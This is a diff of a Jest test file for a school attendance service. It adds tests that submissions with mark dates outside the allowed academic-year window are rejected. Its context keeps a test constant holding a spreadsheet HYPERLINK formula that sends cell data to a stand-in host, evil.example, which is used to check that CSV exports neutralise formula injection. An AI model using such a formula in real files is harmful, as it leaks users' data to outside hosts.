@@ -1,9 +1,10 @@
 // Values that reach the service from outside and could hurt it or its users: names that a spreadsheet would run as
-// formulas (neutralised in every export), and values as big as a file (never sent back whole in an error).
+// formulas (neutralised in every export), marks dated outside the years the service holds (refused), and values as
+// big as a file (never sent back whole in an error).
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { parse } from 'csv-parse/sync';
 import type { SchoolOverview } from '../../server/src/api-contract.js';
-import { todayInLondon } from '../../server/src/common/dates.js';
+import { addDays, previousAcademicYearStart, todayInLondon } from '../../server/src/common/dates.js';
 import { post, settled, startServer, type TestServer } from '../support/server.js';
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
@@ -39,7 +40,8 @@ async function csv(path: string, token: string): Promise<Record<string, string>[
 }
 
 beforeAll(async () => {
-  server = await startServer();
+  // The default window of mark dates (the test server's own MARK_DATES_FROM left out).
+  server = await startServer({ MARK_DATES_FROM: undefined });
   expect((await post(server, '/api/v1/reference/schools', GIAS, server.token('admin'))).status).toBe(201);
   const submitted = await post(server, '/api/v1/submissions', register(todayInLondon()), server.token('submitter'));
   expect(submitted.status).toBe(202);
@@ -78,6 +80,32 @@ describe('names a spreadsheet would run as formulas', () => {
     const rows = await csv('/api/v1/schools/930001/pupils.csv', server.token('school', ['930001']));
     expect(rows).toHaveLength(10);
     expect(rows.every((r) => /^H930001x\d+$/i.test(r.upn))).toBe(true);
+  });
+});
+
+describe('marks dated outside the years the service holds', () => {
+  const today = todayInLondon();
+  const first = previousAcademicYearStart(today);
+  const file = (date: string) => `urn,upn,date,session,code,year_group\n930003,W1,${date},AM,/,4\n`;
+
+  it.each(['1999-09-01', '1969-12-31', '0001-01-01', addDays(first, -1), addDays(today, 1)])(
+    '%s: 400 saying which dates are taken, nothing stored',
+    async (date) => {
+      const response = await post(server, '/api/v1/submissions', file(date), server.token('submitter'));
+      expect(response.status).toBe(400);
+      const window = `registers are taken for ${first} to ${today} (today in England)`;
+      expect(await response.json()).toMatchObject({
+        message: expect.stringMatching(/^The file was not stored/),
+        errors: [{ line: 2, column: 3, message: expect.stringContaining(window) }],
+      });
+    },
+  );
+
+  it('the first day of the previous academic year and today: taken', async () => {
+    for (const date of [first, today]) {
+      expect((await post(server, '/api/v1/submissions', file(date), server.token('submitter'))).status).toBe(202);
+    }
+    await settled(server);
   });
 });
 
